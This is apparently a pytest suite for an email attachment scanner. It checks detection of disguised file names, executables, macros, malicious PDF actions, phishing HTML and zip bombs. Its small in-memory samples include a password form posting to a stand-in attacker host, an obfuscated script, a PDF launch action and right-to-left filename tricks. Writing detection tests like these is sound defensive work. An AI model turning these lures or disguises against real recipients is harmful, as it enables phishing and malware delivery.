"""Dangerous-attachment inspection: every sample is built here, in memory, and never run."""

from __future__ import annotations

import bz2
import gzip
import os
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from accalmie.guard import archives
from accalmie.guard.attachments import (
    FINDINGS,
    attachment_reasons,
    inspect_payload,
    message_budget,
    name_findings,
)
from accalmie.mail.model import Address, Attachment, Message
from accalmie.mail.parse import parse_message
from tests.guard import attachment_samples as s
from tests.mail.mime import multipart, part

LNK = b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 120
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 100
MACHO = b"\xcf\xfa\xed\xfe" + b"\x00" * 100


def has(found: tuple[str, ...], *codes: str) -> bool:
    return all(code in found for code in codes)


# --- names -------------------------------------------------------------------------------------

@pytest.mark.parametrize(("name", "codes"), [
    ("setup.exe", {"executable"}),
    ("screensaver.scr", {"executable"}),
    ("facture.pdf.exe", {"executable", "double_extension"}),
    ("facture.pdf .exe", {"executable", "double_extension"}),
    ("Facture.PDF.JS", {"script", "double_extension"}),
    ("facture.pdf                    .exe", {"executable", "disguised_name"}),
    ("facture.pdf__________.vbs", {"script", "disguised_name"}),
    ("facture\u202efdp.exe", {"executable", "disguised_name"}),  # shows as 'factureexe.pdf'
    ("rapport\u200b.exe", {"executable", "disguised_name"}),
    ("invoice.\uff45\uff58\uff45", {"executable"}),  # full-width letters
    ("run.exe. ", {"executable"}),  # Windows drops trailing dots and spaces
    ("payload.hta", {"script"}),
    ("payload.wsf", {"script"}),
    ("payload.ps1", {"script"}),
    ("payload.bat", {"script"}),
    ("payload.cmd", {"script"}),
    ("payload.jar", {"script"}),
    ("payload.vbs", {"script"}),
    ("image.iso", {"disk_image"}),
    ("image.img", {"disk_image"}),
    ("disk.vhd", {"disk_image"}),
    ("disk.vhdx", {"disk_image"}),
    ("Documents.lnk", {"shortcut"}),
    ("portail.url", {"shortcut"}),
    ("explorer.scf", {"shortcut"}),
    ("Connexion.html", {"html"}),
    ("Facture.pdf.html", {"html", "double_extension"}),
    ("tableau.xlsm", {"macro"}),
    ("courrier.docm", {"macro"}),
    ("archive.7z", {"archive", "unreadable_archive"}),
    ("archive.rar", {"archive", "unreadable_archive"}),
])
def test_names(name: str, codes: set[str]) -> None:
    found = set(inspect_payload(name, "application/octet-stream", b""))
    assert codes <= found, found


@pytest.mark.parametrize("name", ["rapport.pdf", "photo.jpg", "compte-rendu.docx", "data.csv",
                                  "v1.2.final.pdf", "notes.txt", "", "archive.tar.gz",
                                  "lettre.odt", "budget 2024.xlsx"])
def test_ordinary_names_are_quiet(name: str) -> None:
    assert inspect_payload(name, "application/octet-stream", b"") in ((), ("archive",))


def test_declared_types() -> None:
    assert "executable" in name_findings("", "application/x-msdownload")
    assert "macro" in name_findings("x", "application/vnd.ms-excel.sheet.macroEnabled.12")
    assert "type_mismatch" in name_findings("scan.exe", "image/jpeg")


# --- contents ----------------------------------------------------------------------------------

@pytest.mark.parametrize("payload", [s.pe_bytes(), ELF, MACHO], ids=["PE", "ELF", "Mach-O"])
def test_programs_found_by_magic_whatever_the_name(payload: bytes) -> None:
    found = inspect_payload("photo.jpg", "image/jpeg", payload)
    assert has(found, "executable_content", "type_mismatch")


def test_mz_text_is_not_a_program() -> None:
    assert inspect_payload("notes.txt", "text/plain", b"MZ is a postcode prefix") == ()


def test_shortcut_found_by_magic() -> None:
    assert "shortcut" in inspect_payload("facture.pdf", "application/pdf", LNK)


def test_iso_found_by_magic() -> None:
    iso = b"\x00" * 0x8001 + b"CD001" + b"\x00" * 100
    assert has(inspect_payload("scan.pdf", "application/pdf", iso), "disk_image",
               "type_mismatch")


def test_macro_in_ole_document() -> None:
    assert "macro" in inspect_payload("courrier.doc", "application/msword", s.vba_doc())
    assert inspect_payload("courrier.doc", "application/msword", s.plain_doc()) == ()


def test_excel4_macro_sheet() -> None:
    assert "macro" in inspect_payload("tableau.xls", "application/vnd.ms-excel", s.xlm_xls())


def test_encrypted_office_documents() -> None:
    assert "encrypted_document" in inspect_payload("a.doc", "", s.encrypted_doc())
    assert "encrypted_document" in inspect_payload("a.docx", "", s.ooxml_encrypted())


def test_packaged_program_in_ole_object() -> None:
    found = inspect_payload("a.doc", "", s.package_object("facture.pdf.exe", s.pe_bytes()))
    assert has(found, "embedded_object", "inner:executable", "inner:double_extension",
               "inner:executable_content")


def test_outlook_msg_attachments_are_inspected() -> None:
    assert "inner:script" in inspect_payload("fwd.msg", "application/vnd.ms-outlook",
                                             s.outlook_msg("facture.js", b"WScript"))


def test_macro_in_ooxml() -> None:
    assert "macro" in inspect_payload("courrier.docx", "", s.docm())
    assert inspect_payload("courrier.docx", "", s.docx()) == ()  # external hyperlink: fine


def test_macro_document_in_embeddings() -> None:
    found = inspect_payload("courrier.docx", "", s.docx(
        {"word/embeddings/oleObject1.bin": s.package_object("x.vbs", b"x")}))
    assert "inner:script" in found


def test_remote_template() -> None:
    assert "remote_template" in inspect_payload("a.docx", "", s.template_injection_docx())


def test_rtf_object_and_packaged_program() -> None:
    found = inspect_payload("a.rtf", "application/rtf", s.rtf_with_package("run.exe"))
    assert has(found, "embedded_object", "inner:executable")
    assert inspect_payload("a.rtf", "application/rtf", b"{\\rtf1 Bonjour \\par}") == ()


def test_pdf_actions() -> None:
    assert "pdf_javascript" in inspect_payload("a.pdf", "", s.pdf_with_objstm_js())
    assert "pdf_javascript" in inspect_payload("a.pdf", "", b"%PDF-1.4 << /J#61vaScript (x) >>")
    assert "pdf_launch" in inspect_payload("a.pdf", "", b"%PDF-1.4 << /S /Launch /F (c.exe) >>")
    assert "pdf_embedded_file" in inspect_payload("a.pdf", "", b"%PDF-1.4 /EmbeddedFile ")
    assert inspect_payload("a.pdf", "", b"%PDF-1.4 << /Type /Page /JSON 1 >>") == ()


def test_html_and_svg() -> None:
    page = (b"<html><body><form action='https://evil.example/p'>"
            b"<input type=password name=p></form></body></html>")
    assert has(inspect_payload("Connexion.html", "text/html", page), "html", "html_form")
    obf = b"<html><script>document.write(atob('PGZvcm0+'))</script></html>"
    assert has(inspect_payload("Facture.htm", "text/html", obf), "html", "html_script")
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>location.href="x"</script></svg>'
    assert "html_script" in inspect_payload("logo.svg", "image/svg+xml", svg)
    assert inspect_payload("logo.svg", "image/svg+xml", b"<svg><circle r='1'/></svg>") == ()
    assert inspect_payload("logo.svgz", "image/svg+xml", gzip.compress(svg)) == (
        "inner:html_script",)
    assert inspect_payload("logo.svgz", "image/svg+xml", gzip.compress(b"<svg/>")) == ()
    # an unnamed HTML part (a forwarded message's body) is not an HTML attachment
    assert inspect_payload("", "text/html", page) == ()


def test_dangerous_members_of_archives() -> None:
    zipped = s.make_zip({"facture.pdf.js": b"WScript.Shell", "lisez-moi.txt": b"ok"})
    assert has(inspect_payload("facture.zip", "application/zip", zipped), "archive",
               "inner:script", "inner:double_extension")
    zipped = s.make_zip({"scan.pdf": s.pe_bytes()})
    assert has(inspect_payload("scan.zip", "", zipped), "inner:executable_content",
               "inner:type_mismatch")
    assert "inner:macro" in inspect_payload("docs.zip", "", s.make_zip({"a.docm": s.docm()}))
    assert inspect_payload("photos.zip", "", s.make_zip({"a.jpg": b"\xff\xd8\xff" + b"0" * 9,
                                                         "b.pdf": b"%PDF-1.4"})) == ("archive",)


def test_encrypted_and_unreadable_archives() -> None:
    locked = s.set_encrypted_flag(s.make_zip({"facture.exe": s.pe_bytes()}))
    assert has(inspect_payload("facture.zip", "", locked), "encrypted_archive",
               "inner:executable")  # the name still shows, the content is never decrypted
    assert has(inspect_payload("x.pdf", "", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 40),
               "unreadable_archive", "type_mismatch")
    assert "unreadable_archive" in inspect_payload("x.bin", "", b"Rar!\x1a\x07\x01\x00" * 4)


def test_nested_archives() -> None:
    inner = s.make_zip({"run.exe": s.pe_bytes()})
    found = inspect_payload("a.zip", "", s.make_zip({"b.zip": inner}))
    assert has(found, "nested_archive", "inner:executable")
    assert "nested_archive" in inspect_payload("a.zip", "", s.make_zip({"b.7z": b"7z\xbc\xaf"}))


def test_nesting_is_capped() -> None:
    data = s.make_zip({"run.exe": s.pe_bytes()})
    for level in range(archives.MAX_DEPTH + 3):
        data = s.make_zip({f"level{level}.zip": data})
    found = inspect_payload("deep.zip", "", data)
    assert has(found, "nested_archive", "inspection_limit")


def test_gzip_bzip2_and_tar() -> None:
    tarred = s.tar({"x/facture.lnk": LNK, "x/ok.txt": b"ok"})
    assert "inner:shortcut" in inspect_payload("a.tar", "", tarred)
    assert "inner:shortcut" in inspect_payload("a.tar.gz", "", gzip.compress(tarred))
    assert "inner:shortcut" in inspect_payload("a.tbz2", "", bz2.compress(tarred))
    assert "inner:executable_content" in inspect_payload("x.gz", "", gzip.compress(ELF))


def test_zip_bombs() -> None:
    ratio_bomb = s.make_zip({"zeros.txt": b"\x00" * (archives.BOMB_RATIO_MIN + 1)})
    assert "zip_bomb" in inspect_payload("a.zip", "", ratio_bomb)
    assert "zip_bomb" in inspect_payload("a.zip", "", s.overlapping_zip_bomb())
    inner_bomb = s.make_zip({"b.zip": ratio_bomb}, zipfile.ZIP_STORED)
    assert has(inspect_payload("a.zip", "", inner_bomb), "zip_bomb", "nested_archive")


def test_too_many_members_is_not_parsed() -> None:
    crowd = s.make_zip({f"{i}.txt": b"" for i in range(archives.MAX_ZIP_ENTRIES + 1)},
                       zipfile.ZIP_STORED)
    assert "inspection_limit" in inspect_payload("a.zip", "", crowd)


def test_one_budget_for_all_the_attachments_of_a_message() -> None:
    budget = message_budget()
    zeros = s.make_zip({f"{i}.bin": b"\x00" * archives.MAX_MEMBER_BYTES for i in range(4)})
    for _ in range(3):
        inspect_payload("export.zip", "", zeros, budget=budget)
    assert budget.exhausted
    late = inspect_payload("facture.exe", "", s.pe_bytes(), budget=budget)
    assert has(late, "executable", "executable_content", "inspection_limit")


@pytest.mark.parametrize(("name", "payload"), [
    ("courrier.docx", s.docm()[:300]),
    ("courrier.docx", b"not a zip at all"),
    ("courrier.doc", s.vba_doc()[:1000]),
    ("courrier.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 3000),
    ("archive.zip", s.make_zip({"a.txt": b"x" * 1000})[:-30]),
    ("archive.gz", b"\x1f\x8b\x08\x00garbage"),
], ids=["truncated-docx", "not-zip-docx", "truncated-doc", "corrupt-ole", "truncated-zip",
        "corrupt-gz"])
def test_corrupt_files_are_unreadable(name: str, payload: bytes) -> None:
    assert "unreadable" in inspect_payload(name, "", payload)


def test_text_exports_named_like_office_files_are_fine() -> None:
    assert inspect_payload("export.xls", "", b"<?xml version='1.0'?><Workbook/>") == ()
    assert inspect_payload("export.xls", "", b"nom;prenom\nDupont;Marie\n") == ()


def test_nothing_is_written(tmp_path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    for payload in (s.docm(), s.make_zip({"a.zip": s.make_zip({"r.exe": s.pe_bytes()})}),
                    s.package_object("x.exe", s.pe_bytes()), gzip.compress(ELF)):
        inspect_payload("x", "", payload)
    assert os.listdir(tmp_path) == []


# --- in the parser, and as reasons ---------------------------------------------------------

def _with_attachment(name: str, payload: bytes, ctype: str = "application/octet-stream"
                     ) -> bytes:
    return multipart([
        part("Bonjour, voici la facture."),
        part(payload, ctype, charset=None, cte="base64",
             disposition=f'attachment; filename="{name}"'),
    ])


def test_parser_stores_findings() -> None:
    msg = parse_message(_with_attachment("facture.docm", s.docm()))
    (att,) = msg.attachments
    assert "macro" in att.findings
    msg = parse_message(_with_attachment("photo.jpg", b"\xff\xd8\xff\xe0" + b"0" * 100,
                                         "image/jpeg"))
    assert msg.attachments[0].findings == ()


def test_parser_sniffs_the_start_of_oversized_attachments(monkeypatch) -> None:
    import hashlib

    from accalmie.mail import parse

    monkeypatch.setattr(parse, "MAX_INSPECT_CHARS", 2000)
    program = s.pe_bytes() + b"\x00" * 5000
    (att,) = parse_message(_with_attachment("rapport.pdf", program)).attachments
    assert has(att.findings, "executable_content", "type_mismatch", "inspection_limit")
    assert att.size == len(program) and att.sha256 == hashlib.sha256(program).hexdigest()


def test_reasons_for_a_stranger_and_a_known_sender() -> None:
    msg = parse_message(_with_attachment("facture.pdf.exe", s.pe_bytes()))
    strong = attachment_reasons(msg, stranger=True)
    assert strong and strong[0].weight >= 0.9
    assert {r.code for r in strong} >= {"attachment_executable", "attachment_double_extension"}
    assert "facture.pdf.exe" in strong[0].render("en")
    known = attachment_reasons(msg, stranger=False)
    assert max(r.weight for r in known) < max(r.weight for r in strong)


def test_unreadable_reason() -> None:
    msg = parse_message(_with_attachment("courrier.docx", b"PK\x03\x04 truncated"))
    reasons = attachment_reasons(msg, stranger=True)
    assert [r.render("en") for r in reasons] == ["Unreadable attachment: courrier.docx"]
    assert 0 < reasons[0].weight < 0.5


def test_reasons_from_names_when_findings_were_not_stored() -> None:
    msg = Message(from_=Address("", "x@example.org"), attachments=(
        Attachment("Documents.lnk", "application/octet-stream", 10, "0" * 64),))
    assert [r.code for r in attachment_reasons(msg, stranger=True)] == ["attachment_shortcut"]


def test_shown_name_drops_reversing_characters() -> None:
    msg = Message(attachments=(Attachment("facture\u202efdp.exe", "", 1, "0"),))
    text = " ".join(r.render("en") for r in attachment_reasons(msg, stranger=True))
    assert "\u202e" not in text and "facturefdp.exe" in text


def test_no_attachment_no_reason() -> None:
    assert attachment_reasons(parse_message(b"Subject: x\n\nBonjour"), stranger=True) == []


# --- fuzz --------------------------------------------------------------------------------------

FUZZ = settings(max_examples=200, deadline=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
SEEDS = [s.docm(), s.vba_doc(), s.xlm_xls(), s.make_zip({"a.zip": s.make_zip({"b.exe": ELF})}),
         s.pdf_with_objstm_js(), s.rtf_with_package("a.exe"), gzip.compress(s.tar({"a": LNK})),
         s.overlapping_zip_bomb(5), s.outlook_msg("a.js", b"x"),
         s.package_object("a.exe", s.pe_bytes())]
NAMES = st.sampled_from(["a.zip", "a.docx", "a.doc", "a.pdf", "a.rtf", "a.html", "a.svg",
                         "a.gz", "a.tar", "", "x\u202eexe.pdf", "a.xls", "a.msg"])


@st.composite
def mutated(draw: st.DrawFn) -> bytes:
    data = bytearray(draw(st.sampled_from(SEEDS)))
    for _ in range(draw(st.integers(0, 8))):
        at = draw(st.integers(0, len(data) - 1))
        data[at] = draw(st.integers(0, 255))
    cut = draw(st.integers(0, len(data)))
    return bytes(data[:cut]) if draw(st.booleans()) else bytes(data)


def _check(found: tuple[str, ...]) -> None:
    assert isinstance(found, tuple)
    assert set(found) <= FINDINGS, set(found) - FINDINGS


@FUZZ
@given(NAMES, st.text(max_size=40), st.binary(max_size=3000))
def test_fuzz_random_bytes(name: str, ctype: str, payload: bytes) -> None:
    _check(inspect_payload(name, ctype, payload))


@FUZZ
@given(NAMES, mutated())
def test_fuzz_mutated_containers(name: str, payload: bytes) -> None:
    _check(inspect_payload(name, "application/octet-stream", payload))


@FUZZ
@given(st.text(max_size=300))
def test_fuzz_names(name: str) -> None:
    _check(inspect_payload(name, "", b""))
